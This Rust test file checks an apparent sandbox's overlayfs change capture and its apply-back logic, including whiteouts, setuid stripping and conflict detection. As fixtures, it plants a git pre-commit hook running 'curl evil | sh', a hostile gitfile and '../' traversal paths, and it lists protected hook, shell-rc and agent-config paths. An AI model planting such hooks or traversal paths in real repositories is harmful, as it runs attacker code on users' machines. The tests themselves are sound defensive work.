//! Tests for `sandbox::overlay` against a real overlayfs mounted the way the runner mounts it
//! (inside an unprivileged user + mount namespace, `userxattr`), plus hand-built upper layers
//! for the cases a real run cannot produce on demand.

use std::collections::BTreeMap;
use std::ffi::CString;
use std::fs;
use std::io;
use std::os::fd::{AsFd, AsRawFd, FromRawFd, OwnedFd, RawFd};
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::os::unix::net::UnixStream;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::SystemTime;

use sandbox::overlay::{self, Changes};

/// The overlay options the runner must use in a user namespace on Linux 6.x:
/// `redirect_dir=off` is rejected with `userxattr` ("conflicting options"), `nofollow` works.
const OVERLAY_OPTS: &str = "userxattr,redirect_dir=nofollow,index=off,metacopy=off";

const CHILD_ENV: &str = "AIRLOCK_OVERLAY_TEST_CHILD_DIR";
const SOCK_ENV: &str = "AIRLOCK_OVERLAY_TEST_CHILD_SOCK";

// ------------------------------------------------------------------------------------------
// Helpers

struct TempDir(PathBuf);

impl TempDir {
    fn new(tag: &str) -> Self {
        static N: AtomicU32 = AtomicU32::new(0);
        let nanos = SystemTime::now()
            .duration_since(SystemTime::UNIX_EPOCH)
            .unwrap()
            .subsec_nanos();
        let p = std::env::temp_dir().join(format!(
            "airlock-overlay-{tag}-{}-{}-{nanos}",
            std::process::id(),
            N.fetch_add(1, Ordering::Relaxed)
        ));
        fs::create_dir_all(&p).unwrap();
        fs::set_permissions(&p, fs::Permissions::from_mode(0o755)).unwrap();
        TempDir(p)
    }
    fn path(&self) -> &Path {
        &self.0
    }
}

impl Drop for TempDir {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.0);
    }
}

fn write(p: impl AsRef<Path>, content: &str) {
    let p = p.as_ref();
    if let Some(parent) = p.parent() {
        fs::create_dir_all(parent).unwrap();
    }
    fs::write(p, content).unwrap();
}

fn chmod(p: impl AsRef<Path>, mode: u32) {
    fs::set_permissions(p, fs::Permissions::from_mode(mode)).unwrap();
}

fn mode_of(p: impl AsRef<Path>) -> u32 {
    fs::symlink_metadata(p).unwrap().permissions().mode() & 0o7777
}

fn changes(created: &[&str], modified: &[&str], deleted: &[&str]) -> Changes {
    let v = |s: &[&str]| {
        let mut v: Vec<String> = s.iter().map(|s| s.to_string()).collect();
        v.sort();
        v
    };
    Changes {
        created: v(created),
        modified: v(modified),
        deleted: v(deleted),
    }
}

fn open_dir(p: &Path) -> OwnedFd {
    OwnedFd::from(fs::File::open(p).unwrap())
}

fn cstr(p: &Path) -> CString {
    CString::new(p.as_os_str().as_bytes()).unwrap()
}

/// Every entry below `root` (not following symlinks): type, mode and content or target.
fn snapshot(root: &Path) -> BTreeMap<String, String> {
    fn walk(root: &Path, dir: &Path, out: &mut BTreeMap<String, String>) {
        for e in fs::read_dir(dir).unwrap() {
            let p = e.unwrap().path();
            let rel = p.strip_prefix(root).unwrap().to_string_lossy().into_owned();
            let md = fs::symlink_metadata(&p).unwrap();
            let mode = md.permissions().mode() & 0o7777;
            let desc = if md.file_type().is_symlink() {
                format!("link {}", fs::read_link(&p).unwrap().display())
            } else if md.is_dir() {
                walk(root, &p, out);
                format!("dir {mode:o}")
            } else if md.is_file() {
                format!(
                    "file {mode:o} {}",
                    String::from_utf8_lossy(&fs::read(&p).unwrap())
                )
            } else {
                format!("other {mode:o}")
            };
            out.insert(rel, desc);
        }
    }
    let mut out = BTreeMap::new();
    walk(root, root, &mut out);
    out
}

/// A whiteout as overlayfs makes it: a character device 0:0.
fn whiteout(p: &Path) {
    let r = unsafe { libc::mknod(cstr(p).as_ptr(), libc::S_IFCHR, libc::makedev(0, 0)) };
    assert_eq!(
        r,
        0,
        "mknod {}: {}",
        p.display(),
        io::Error::last_os_error()
    );
}

fn set_xattr(p: &Path, name: &str, value: &[u8]) {
    let name = CString::new(name).unwrap();
    let r = unsafe {
        libc::lsetxattr(
            cstr(p).as_ptr(),
            name.as_ptr(),
            value.as_ptr().cast(),
            value.len(),
            0,
        )
    };
    assert_eq!(
        r,
        0,
        "setxattr {}: {}",
        p.display(),
        io::Error::last_os_error()
    );
}

/// A workspace (`lower`) and a hand-built upper layer in one temp dir.
struct Layers {
    tmp: TempDir,
}

impl Layers {
    fn new(tag: &str) -> Self {
        let tmp = TempDir::new(tag);
        fs::create_dir(tmp.path().join("lower")).unwrap();
        fs::create_dir(tmp.path().join("upper")).unwrap();
        Layers { tmp }
    }
    fn lower(&self) -> PathBuf {
        self.tmp.path().join("lower")
    }
    fn upper(&self) -> PathBuf {
        self.tmp.path().join("upper")
    }
    fn saved(&self) -> PathBuf {
        self.tmp.path().join("saved")
    }
    fn scan(&self) -> io::Result<Changes> {
        overlay::scan(open_dir(&self.upper()).as_fd(), &self.lower())
    }
    fn save(&self) -> io::Result<()> {
        overlay::save(
            open_dir(&self.upper()).as_fd(),
            &self.lower(),
            &self.saved(),
            1 << 20,
            1000,
        )
    }
    fn apply(&self) -> io::Result<Changes> {
        overlay::apply(&self.saved(), &self.lower())
    }
}

// ------------------------------------------------------------------------------------------
// A real overlay in a user namespace

/// Runs only when re-executed by `real_overlay_in_user_namespace` (already inside a new user
/// and mount namespace): mounts the overlay, works on the merged view, scans, and hands the
/// upper directory's fd back to the parent before this namespace (and its tmpfs mount) dies.
#[test]
fn overlay_child() {
    let Some(dir) = std::env::var_os(CHILD_ENV) else {
        return;
    };
    let dir = PathBuf::from(dir);
    let sock: RawFd = std::env::var(SOCK_ENV).unwrap().parse().unwrap();
    let sock = unsafe { OwnedFd::from_raw_fd(sock) };

    let mount = |src: &str, target: &Path, fstype: &str, flags: libc::c_ulong, data: &str| {
        let (src, fstype, data) = (
            CString::new(src).unwrap(),
            CString::new(fstype).unwrap(),
            CString::new(data).unwrap(),
        );
        let r = unsafe {
            libc::mount(
                src.as_ptr(),
                cstr(target).as_ptr(),
                fstype.as_ptr(),
                flags,
                data.as_ptr().cast(),
            )
        };
        assert_eq!(
            r,
            0,
            "mount {} {}: {}",
            fstype.to_string_lossy(),
            target.display(),
            io::Error::last_os_error()
        );
    };
    mount(
        "none",
        Path::new("/"),
        "",
        libc::MS_REC | libc::MS_PRIVATE,
        "",
    );
    let t = dir.join("t");
    let lower = dir.join("lower");
    let merged = dir.join("merged");
    fs::create_dir(&t).unwrap();
    fs::create_dir(&merged).unwrap();
    mount("tmpfs", &t, "tmpfs", 0, "size=16m,mode=0755");
    let upper = t.join("upper");
    let work = t.join("work");
    fs::create_dir(&upper).unwrap();
    fs::create_dir(&work).unwrap();
    let opts = format!(
        "lowerdir={},upperdir={},workdir={},{OVERLAY_OPTS}",
        lower.display(),
        upper.display(),
        work.display()
    );
    mount("overlay", &merged, "overlay", 0, &opts);

    let m = &merged;
    write(m.join("edit.txt"), "new content\n");
    fs::remove_file(m.join("del.txt")).unwrap();
    fs::remove_dir_all(m.join("deldir")).unwrap();
    fs::remove_dir_all(m.join("redo")).unwrap();
    fs::create_dir(m.join("redo")).unwrap();
    write(m.join("redo/x.txt"), "x\n"); // same bytes as before: no change
    write(m.join("redo/z.txt"), "z\n");
    chmod(m.join("mode.sh"), 0o755);
    let f = fs::OpenOptions::new()
        .write(true)
        .open(m.join("touched.txt"))
        .unwrap();
    f.set_modified(SystemTime::UNIX_EPOCH).unwrap();
    drop(f);
    chmod(m.join("samemode.txt"), 0o644);
    write(m.join("rewrite.txt"), "same\n");
    write(m.join("new.txt"), "brand new\n");
    symlink("new.txt", m.join("link")).unwrap();
    fs::remove_file(m.join("oldlink")).unwrap();
    symlink("edit.txt", m.join("oldlink")).unwrap();
    fs::remove_file(m.join("deadlink")).unwrap();
    write(m.join("newdir/inner/deep.txt"), "deep\n");
    write(m.join("sub/added.txt"), "added\n");
    fs::remove_file(m.join("typechg")).unwrap();
    write(m.join("typechg/f"), "f\n");
    fs::remove_dir_all(m.join("dir2file")).unwrap();
    write(m.join("dir2file"), "now a file\n");
    write(m.join("suid.bin"), "#!/bin/sh\n");
    chmod(m.join("suid.bin"), 0o4755);
    fs::rename(m.join("keep2.txt"), m.join("renamed.txt")).unwrap();
    chmod(m.join("modedir"), 0o700);
    write(m.join("temp.txt"), "short-lived\n");
    fs::remove_file(m.join("temp.txt")).unwrap();
    fs::create_dir(m.join("tempdir")).unwrap();
    fs::remove_dir(m.join("tempdir")).unwrap();

    fs::write(
        dir.join("merged.json"),
        serde_json::to_vec(&snapshot(m)).unwrap(),
    )
    .unwrap();
    let upper_fd = open_dir(&upper);
    let scanned = overlay::scan(upper_fd.as_fd(), &lower).unwrap();
    fs::write(
        dir.join("child-scan.json"),
        serde_json::to_vec(&scanned).unwrap(),
    )
    .unwrap();
    send_fd(sock.as_raw_fd(), upper_fd.as_raw_fd());
}

fn e2e_expected() -> Changes {
    changes(
        &[
            "link",
            "new.txt",
            "newdir",
            "newdir/inner",
            "newdir/inner/deep.txt",
            "redo/z.txt",
            "renamed.txt",
            "sub/added.txt",
            "suid.bin",
            "typechg/f",
        ],
        &[
            "dir2file", "edit.txt", "mode.sh", "modedir", "oldlink", "typechg",
        ],
        &[
            "deadlink",
            "del.txt",
            "deldir",
            "deldir/a.txt",
            "deldir/sub",
            "deldir/sub/b.txt",
            "dir2file/q",
            "keep2.txt",
            "redo/y.txt",
        ],
    )
}

#[test]
fn real_overlay_in_user_namespace() {
    let tmp = TempDir::new("e2e");
    let lower = tmp.path().join("lower");
    let l = &lower;
    write(l.join("keep.txt"), "unchanged\n");
    write(l.join("edit.txt"), "old\n");
    write(l.join("del.txt"), "delete me\n");
    write(l.join("deldir/a.txt"), "a\n");
    write(l.join("deldir/sub/b.txt"), "b\n");
    write(l.join("redo/x.txt"), "x\n");
    write(l.join("redo/y.txt"), "y\n");
    write(l.join("mode.sh"), "echo hi\n");
    chmod(l.join("mode.sh"), 0o644);
    write(l.join("touched.txt"), "touch me\n");
    write(l.join("samemode.txt"), "mode\n");
    chmod(l.join("samemode.txt"), 0o644);
    write(l.join("rewrite.txt"), "same\n");
    symlink("keep.txt", l.join("oldlink")).unwrap();
    symlink("keep.txt", l.join("deadlink")).unwrap();
    write(l.join("sub/file.txt"), "sub\n");
    write(l.join("typechg"), "a file\n");
    write(l.join("dir2file/q"), "q\n");
    write(l.join("keep2.txt"), "moving\n");
    fs::create_dir(l.join("modedir")).unwrap();
    chmod(l.join("modedir"), 0o755);
    write(l.join("modedir/inside.txt"), "inside\n");
    let before = snapshot(l);

    let (parent_sock, child_sock) = UnixStream::pair().unwrap();
    let child_fd = child_sock.as_raw_fd();
    let uid_map = format!("0 {} 1", unsafe { libc::geteuid() });
    let gid_map = format!("0 {} 1", unsafe { libc::getegid() });
    let mut cmd = Command::new(std::env::current_exe().unwrap());
    cmd.args([
        "overlay_child",
        "--exact",
        "--nocapture",
        "--test-threads=1",
    ])
    .env(CHILD_ENV, tmp.path())
    .env(SOCK_ENV, child_fd.to_string());
    // SAFETY: between fork and exec this only makes raw syscalls (no allocation, no locks).
    unsafe {
        cmd.pre_exec(move || {
            enter_user_namespace(uid_map.as_bytes(), gid_map.as_bytes())?;
            if libc::fcntl(child_fd, libc::F_SETFD, 0) != 0 {
                return Err(io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let out = cmd.output().unwrap();
    drop(child_sock);
    assert!(
        out.status.success(),
        "child failed: {}\n{}\n{}",
        out.status,
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    // The child's mount namespace is gone; only this fd keeps its tmpfs alive.
    let upper = recv_fd(parent_sock.as_raw_fd());

    let expected = e2e_expected();
    let child_scan: serde_json::Value =
        serde_json::from_slice(&fs::read(tmp.path().join("child-scan.json")).unwrap()).unwrap();
    assert_eq!(child_scan, serde_json::to_value(&expected).unwrap());
    assert_eq!(overlay::scan(upper.as_fd(), l).unwrap(), expected);
    assert_eq!(snapshot(l), before, "the lower layer must be untouched");

    let saved = tmp.path().join("saved");
    overlay::save(upper.as_fd(), l, &saved, 1 << 20, 1000).unwrap();
    assert_eq!(mode_of(&saved), 0o700);
    drop(upper);

    assert_eq!(overlay::apply(&saved, l).unwrap(), expected);
    let mut merged: BTreeMap<String, String> =
        serde_json::from_slice(&fs::read(tmp.path().join("merged.json")).unwrap()).unwrap();
    assert_eq!(merged["suid.bin"], "file 4755 #!/bin/sh\n");
    merged.insert("suid.bin".into(), "file 755 #!/bin/sh\n".into());
    assert_eq!(snapshot(l), merged);
}

/// Enter a new user and mount namespace, mapping root in it to our own uid and gid.
/// Runs between fork and exec: raw syscalls only.
fn enter_user_namespace(uid_map: &[u8], gid_map: &[u8]) -> io::Result<()> {
    if unsafe { libc::unshare(libc::CLONE_NEWUSER | libc::CLONE_NEWNS) } != 0 {
        return Err(io::Error::last_os_error());
    }
    write_proc(c"/proc/self/setgroups", b"deny")?;
    write_proc(c"/proc/self/uid_map", uid_map)?;
    write_proc(c"/proc/self/gid_map", gid_map)
}

fn write_proc(path: &std::ffi::CStr, data: &[u8]) -> io::Result<()> {
    let fd = unsafe { libc::open(path.as_ptr(), libc::O_WRONLY | libc::O_CLOEXEC) };
    if fd < 0 {
        return Err(io::Error::last_os_error());
    }
    let n = unsafe { libc::write(fd, data.as_ptr().cast(), data.len()) };
    let e = io::Error::last_os_error();
    unsafe { libc::close(fd) };
    if n != data.len() as isize {
        return Err(e);
    }
    Ok(())
}

fn send_fd(sock: RawFd, fd: RawFd) {
    let mut byte = [0u8; 1];
    let mut iov = libc::iovec {
        iov_base: byte.as_mut_ptr().cast(),
        iov_len: 1,
    };
    let space = unsafe { libc::CMSG_SPACE(size_of::<libc::c_int>() as u32) } as usize;
    let mut control = vec![0u64; space.div_ceil(8)];
    let mut msg: libc::msghdr = unsafe { std::mem::zeroed() };
    msg.msg_iov = &mut iov;
    msg.msg_iovlen = 1;
    msg.msg_control = control.as_mut_ptr().cast();
    msg.msg_controllen = space as _;
    unsafe {
        let c = libc::CMSG_FIRSTHDR(&msg);
        (*c).cmsg_level = libc::SOL_SOCKET;
        (*c).cmsg_type = libc::SCM_RIGHTS;
        (*c).cmsg_len = libc::CMSG_LEN(size_of::<libc::c_int>() as u32) as _;
        std::ptr::write_unaligned(libc::CMSG_DATA(c).cast::<libc::c_int>(), fd);
        assert_eq!(
            libc::sendmsg(sock, &msg, 0),
            1,
            "{}",
            io::Error::last_os_error()
        );
    }
}

fn recv_fd(sock: RawFd) -> OwnedFd {
    let mut byte = [0u8; 1];
    let mut iov = libc::iovec {
        iov_base: byte.as_mut_ptr().cast(),
        iov_len: 1,
    };
    let space = unsafe { libc::CMSG_SPACE(size_of::<libc::c_int>() as u32) } as usize;
    let mut control = vec![0u64; space.div_ceil(8)];
    let mut msg: libc::msghdr = unsafe { std::mem::zeroed() };
    msg.msg_iov = &mut iov;
    msg.msg_iovlen = 1;
    msg.msg_control = control.as_mut_ptr().cast();
    msg.msg_controllen = space as _;
    unsafe {
        let n = libc::recvmsg(sock, &mut msg, libc::MSG_CMSG_CLOEXEC);
        assert_eq!(n, 1, "recvmsg: {}", io::Error::last_os_error());
        let c = libc::CMSG_FIRSTHDR(&msg);
        assert!(!c.is_null(), "no fd received");
        assert_eq!(
            ((*c).cmsg_level, (*c).cmsg_type),
            (libc::SOL_SOCKET, libc::SCM_RIGHTS)
        );
        OwnedFd::from_raw_fd(std::ptr::read_unaligned(
            libc::CMSG_DATA(c).cast::<libc::c_int>(),
        ))
    }
}

// ------------------------------------------------------------------------------------------
// Hand-built upper layers

#[test]
fn whiteout_forms_and_opaque_dirs() {
    let t = Layers::new("whiteouts");
    let (l, u) = (t.lower(), t.upper());
    write(l.join("a.txt"), "a\n");
    write(l.join("b.txt"), "b\n");
    write(l.join("gone/x"), "x\n");
    write(l.join("opq/k"), "k\n");
    write(l.join("opq/d/e"), "e\n");
    write(l.join("xo/keep"), "keep\n");

    whiteout(&u.join("a.txt"));
    whiteout(&u.join("not-in-lower")); // ignored
    write(u.join("b.txt"), ""); // zero-size file + xattr: the newer whiteout form
    set_xattr(&u.join("b.txt"), "user.overlay.whiteout", b"y");
    whiteout(&u.join("gone"));
    write(u.join("opq/k"), "k\n"); // same bytes as the lower's: unchanged
    write(u.join("opq/n"), "n\n");
    set_xattr(&u.join("opq"), "user.overlay.opaque", b"y");
    fs::create_dir(u.join("xo")).unwrap(); // "x" only means "holds xattr whiteouts"
    set_xattr(&u.join("xo"), "user.overlay.opaque", b"x");

    let expected = changes(
        &["opq/n"],
        &[],
        &["a.txt", "b.txt", "gone", "gone/x", "opq/d", "opq/d/e"],
    );
    assert_eq!(t.scan().unwrap(), expected);
    t.save().unwrap();
    assert_eq!(t.apply().unwrap(), expected);
    assert_eq!(
        snapshot(&l).into_keys().collect::<Vec<_>>(),
        ["opq", "opq/k", "opq/n", "xo", "xo/keep"]
    );
}

#[test]
fn redirects_and_special_files_are_errors() {
    let t = Layers::new("redirect");
    fs::create_dir(t.lower().join("d")).unwrap();
    fs::create_dir(t.upper().join("d")).unwrap();
    set_xattr(&t.upper().join("d"), "user.overlay.redirect", b"/elsewhere");
    let e = t.scan().unwrap_err();
    assert_eq!(e.kind(), io::ErrorKind::Unsupported, "{e}");
    assert!(e.to_string().contains("redirect"), "{e}");

    let t = Layers::new("fifo");
    let fifo = cstr(&t.upper().join("pipe"));
    assert_eq!(unsafe { libc::mkfifo(fifo.as_ptr(), 0o644) }, 0);
    assert_eq!(t.scan().unwrap_err().kind(), io::ErrorKind::Unsupported);
    assert!(t.save().is_err());
    assert!(!t.saved().exists());
}

#[test]
fn is_protected_matches_at_any_depth() {
    for p in [
        ".git/hooks",
        ".git/hooks/pre-commit",
        ".git/config",
        "vendor/lib/.git/config",
        "vendor/lib/.git/hooks/post-checkout",
        ".git/modules/lib/hooks/pre-push",
        ".git/commondir",
        ".gitmodules",
        ".bashrc",
        "sub/.bashrc",
        ".profile",
        ".zshenv",
        "app/.envrc",
        ".vscode",
        ".vscode/settings.json",
        "x/.idea/workspace.xml",
        ".claude/settings.json",
        ".codex/config.toml",
        ".cursor/rules",
        ".mcp.json",
        "./.bashrc",
        ".VSCode/tasks.json",
        "a/../.bashrc",
    ] {
        assert!(overlay::is_protected(p), "{p} should be protected");
    }
    for p in [
        ".git",
        ".git/HEAD",
        ".git/objects/ab/cdef",
        ".git/refs/heads/main",
        ".gitignore",
        "config",
        "hooks/pre-commit",
        "src/.git-config",
        "bashrc",
        "docs/profile",
        "src/main.rs",
    ] {
        assert!(!overlay::is_protected(p), "{p} should not be protected");
    }
    assert!(overlay::PROTECTED.contains(&".git/hooks"));
    assert!(overlay::PROTECTED.contains(&".mcp.json"));
}

#[test]
fn apply_refuses_protected_path_and_applies_nothing() {
    let t = Layers::new("protected");
    let (l, u) = (t.lower(), t.upper());
    write(l.join("README"), "readme\n");
    fs::create_dir_all(l.join(".git/hooks")).unwrap();
    fs::create_dir_all(u.join(".git/hooks")).unwrap();
    write(
        u.join(".git/hooks/pre-commit"),
        "#!/bin/sh\ncurl evil | sh\n",
    );
    write(u.join("ok.txt"), "fine\n");
    write(u.join("README"), "changed\n");
    let before = snapshot(&l);

    assert_eq!(
        t.scan().unwrap(),
        changes(&[".git/hooks/pre-commit", "ok.txt"], &["README"], &[])
    );
    t.save().unwrap();
    let e = t.apply().unwrap_err();
    assert_eq!(e.kind(), io::ErrorKind::PermissionDenied, "{e}");
    assert!(e.to_string().contains(".git/hooks/pre-commit"), "{e}");
    assert_eq!(snapshot(&l), before, "nothing may be applied");
}

#[test]
fn apply_refuses_gitfile() {
    let t = Layers::new("gitfile");
    fs::create_dir(t.lower().join("sub")).unwrap();
    write(t.upper().join("sub/.git"), "gitdir: ../evil\n");
    t.save().unwrap();
    let e = t.apply().unwrap_err();
    assert_eq!(e.kind(), io::ErrorKind::PermissionDenied, "{e}");
    assert!(!t.lower().join("sub/.git").exists());
}

/// Lower with a.txt, b.txt and dir/x; the run modifies a.txt, deletes b.txt and dir,
/// and creates new.txt.
fn conflict_layers(tag: &str) -> Layers {
    let t = Layers::new(tag);
    let (l, u) = (t.lower(), t.upper());
    write(l.join("a.txt"), "one\n");
    write(l.join("b.txt"), "bee\n");
    write(l.join("dir/x"), "x\n");
    write(u.join("a.txt"), "two\n");
    whiteout(&u.join("b.txt"));
    whiteout(&u.join("dir"));
    write(u.join("new.txt"), "new\n");
    t.save().unwrap();
    t
}

#[test]
fn apply_refuses_when_workspace_changed_since_the_run() {
    type Edit = fn(&Path);
    let conflicting: [(&str, Edit); 6] = [
        ("edited", |l| write(l.join("a.txt"), "ONE\n")),
        ("same-size", |l| write(l.join("a.txt"), "uno\n")),
        ("deleted-edited", |l| write(l.join("b.txt"), "bzz\n")),
        ("created-meanwhile", |l| write(l.join("new.txt"), "mine\n")),
        ("dir-grew", |l| write(l.join("dir/y"), "y\n")),
        ("chmod", |l| chmod(l.join("a.txt"), 0o600)),
    ];
    for (tag, change) in conflicting {
        let t = conflict_layers(tag);
        let l = t.lower();
        change(&l);
        let before = snapshot(&l);
        let e = t.apply().unwrap_err();
        assert!(
            e.to_string().contains("workspace changed since the run"),
            "{tag}: {e}"
        );
        assert_eq!(snapshot(&l), before, "{tag}: nothing may be applied");
    }

    // Untouched, the same layer applies.
    let t = conflict_layers("clean");
    assert_eq!(
        t.apply().unwrap(),
        changes(&["new.txt"], &["a.txt"], &["b.txt", "dir", "dir/x"])
    );
    assert_eq!(
        snapshot(&t.lower()),
        BTreeMap::from([
            ("a.txt".to_string(), "file 644 two\n".to_string()),
            ("new.txt".to_string(), "file 644 new\n".to_string()),
        ])
    );
}

#[test]
fn apply_refuses_symlinked_directory_in_workspace() {
    let t = Layers::new("symlinked");
    let (l, u) = (t.lower(), t.upper());
    write(l.join("d/f.txt"), "f\n");
    write(u.join("d/f.txt"), "changed\n");
    write(u.join("d/new.txt"), "new\n");
    write(u.join("top.txt"), "top\n");
    t.save().unwrap();

    // After the run, `d` is swapped for a symlink to a directory outside the workspace.
    let outside = t.tmp.path().join("outside");
    write(outside.join("f.txt"), "f\n");
    fs::rename(l.join("d"), t.tmp.path().join("d.real")).unwrap();
    symlink(&outside, l.join("d")).unwrap();

    let e = t.apply().unwrap_err();
    assert_eq!(e.kind(), io::ErrorKind::PermissionDenied, "{e}");
    assert!(e.to_string().contains("refusing to follow d"), "{e}");
    assert_eq!(fs::read_to_string(outside.join("f.txt")).unwrap(), "f\n");
    assert!(!outside.join("new.txt").exists());
    assert!(!l.join("top.txt").exists());
}

#[test]
fn apply_never_sets_setuid_setgid_or_sticky() {
    let t = Layers::new("suid");
    let (l, u) = (t.lower(), t.upper());
    write(l.join("plain.txt"), "plain\n");
    chmod(l.join("plain.txt"), 0o644);
    fs::create_dir(l.join("sdir")).unwrap();
    chmod(l.join("sdir"), 0o755);
    write(u.join("plain.txt"), "plain\n");
    chmod(u.join("plain.txt"), 0o4755);
    write(u.join("new.bin"), "bin\n");
    chmod(u.join("new.bin"), 0o6755);
    fs::create_dir(u.join("newdir")).unwrap();
    chmod(u.join("newdir"), 0o1777);
    fs::create_dir(u.join("sdir")).unwrap();
    chmod(u.join("sdir"), 0o2755);
    write(u.join("sdir/inner"), "in\n");

    let expected = changes(
        &["new.bin", "newdir", "sdir/inner"],
        &["plain.txt", "sdir"],
        &[],
    );
    assert_eq!(t.scan().unwrap(), expected);
    t.save().unwrap();
    assert_eq!(t.apply().unwrap(), expected);
    assert_eq!(mode_of(l.join("plain.txt")), 0o755);
    assert_eq!(mode_of(l.join("new.bin")), 0o755);
    assert_eq!(mode_of(l.join("newdir")), 0o777);
    assert_eq!(mode_of(l.join("sdir")), 0o755);
    assert_eq!(mode_of(l.join("sdir/inner")), 0o644);
}

#[test]
fn save_is_bounded() {
    let t = Layers::new("bounded");
    let u = t.upper();
    write(u.join("big"), &"x".repeat(1000));
    for i in 0..4 {
        write(u.join(format!("f{i}")), "");
    }
    let upper = open_dir(&u);
    let save = |max_bytes, max_entries| {
        overlay::save(
            upper.as_fd(),
            &t.lower(),
            &t.saved(),
            max_bytes,
            max_entries,
        )
    };

    let e = save(999, 100).unwrap_err();
    assert_eq!(e.kind(), io::ErrorKind::QuotaExceeded, "{e}");
    assert!(!t.saved().exists());
    let e = save(1 << 20, 4).unwrap_err();
    assert_eq!(e.kind(), io::ErrorKind::QuotaExceeded, "{e}");
    assert!(!t.saved().exists());

    save(1000, 5).unwrap();
    assert_eq!(mode_of(t.saved()), 0o700);
    // The destination must be new.
    assert_eq!(
        save(1000, 5).unwrap_err().kind(),
        io::ErrorKind::AlreadyExists
    );
}

#[test]
fn apply_refuses_paths_escaping_the_workspace() {
    for bad in ["../escape.txt", "sub/../../escape.txt", "/tmp/escape.txt"] {
        let t = Layers::new("dotdot");
        fs::create_dir(t.lower().join("sub")).unwrap();
        write(t.upper().join("evil.txt"), "evil\n");
        write(t.upper().join("fine.txt"), "fine\n");
        t.save().unwrap();
        let manifest = t.saved().join("manifest");
        let text = fs::read_to_string(&manifest).unwrap();
        assert!(text.contains("created evil.txt "), "{text}");
        fs::write(
            &manifest,
            text.replace("created evil.txt ", &format!("created {bad} ")),
        )
        .unwrap();

        let e = t.apply().unwrap_err();
        assert_eq!(e.kind(), io::ErrorKind::PermissionDenied, "{bad}: {e}");
        assert!(!t.tmp.path().join("escape.txt").exists());
        assert!(
            !t.lower().join("fine.txt").exists(),
            "{bad}: nothing applied"
        );
    }
}

#[test]
fn apply_replaces_symlink_with_directory() {
    // A layer may replace a workspace symlink by a real directory; the symlink itself
    // is never followed.
    let t = Layers::new("link2dir");
    let (l, u) = (t.lower(), t.upper());
    let outside = t.tmp.path().join("outside");
    fs::create_dir(&outside).unwrap();
    symlink(&outside, l.join("d")).unwrap();
    fs::create_dir(u.join("d")).unwrap();
    set_xattr(&u.join("d"), "user.overlay.opaque", b"y");
    write(u.join("d/f"), "f\n");
    let expected = changes(&["d/f"], &["d"], &[]);
    assert_eq!(t.scan().unwrap(), expected);
    t.save().unwrap();
    assert_eq!(t.apply().unwrap(), expected);
    assert!(fs::symlink_metadata(l.join("d")).unwrap().is_dir());
    assert_eq!(fs::read_to_string(l.join("d/f")).unwrap(), "f\n");
    assert_eq!(fs::read_dir(&outside).unwrap().count(), 0);
}
